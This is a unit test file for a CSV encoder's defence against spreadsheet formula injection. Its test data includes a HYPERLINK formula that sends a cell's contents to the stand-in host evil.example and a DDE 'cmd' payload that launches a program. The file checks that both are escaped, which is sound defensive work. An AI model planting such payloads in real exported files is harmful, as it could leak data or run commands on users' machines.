import { csvField, csvRecord } from './csv.js';

describe('csvField', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?q="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?q=""&A1,""click"")"`],
    ['+1+2', `"'+1+2"`],
    ['-1+2', `"'-1+2"`],
    ["-cmd|' /C calc'!A0", `"'-cmd|' /C calc'!A0"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+2', `"'\t=1+2"`],
    ['\r=1+2', `"'\r=1+2"`],
    ['+8613800138000', `"'+8613800138000"`],
    ['-', `"'-"`],
    ['=', `"'="`],
  ])('should neutralise the text %j as %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each(['-100', '-0.5', '100', '0', '12.50', '-2026'])('should leave the plain number %j as it is', (value) => {
    expect(csvField(value)).toBe(value);
  });

  it.each(['-1e3', '-1,5', '-.5', '- 1', '+5', '-1.', '--1'])('should neutralise %j, which is not a plain decimal number', (value) => {
    expect(csvField(value).startsWith(`"'`)).toBe(true);
  });

  it('should write numbers, bigints and booleans as they are, negative ones included', () => {
    expect([-100, -0.25, 3, 12345678901234567890n, true, false].map(csvField)).toEqual(['-100', '-0.25', '3', '12345678901234567890', 'true', 'false']);
  });

  it('should write null and undefined as an empty cell', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField('')).toBe('');
  });

  it('should quote a field with a comma, a quote or a line break, doubling the quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('crlf\r\nend')).toBe('"crlf\r\nend"');
    expect(csvField('{"note":"=HYPERLINK()"}')).toBe('"{""note"":""=HYPERLINK()""}"');
  });

  it('should leave other text, formula characters inside it included, unquoted', () => {
    expect(csvField('鞋底开胶')).toBe('鞋底开胶');
    expect(csvField('a=b+c-d@e')).toBe('a=b+c-d@e');
    expect(csvField("'quoted already")).toBe("'quoted already");
    expect(csvField(' =1+2')).toBe(' =1+2');
  });
});

describe('csvRecord', () => {
  it('should join encoded fields with commas and end with CRLF', () => {
    expect(csvRecord(['x', null, -5, '-5', '=1', 'a,b'])).toBe(`x,,-5,-5,"'=1","a,b"\r\n`);
  });
});
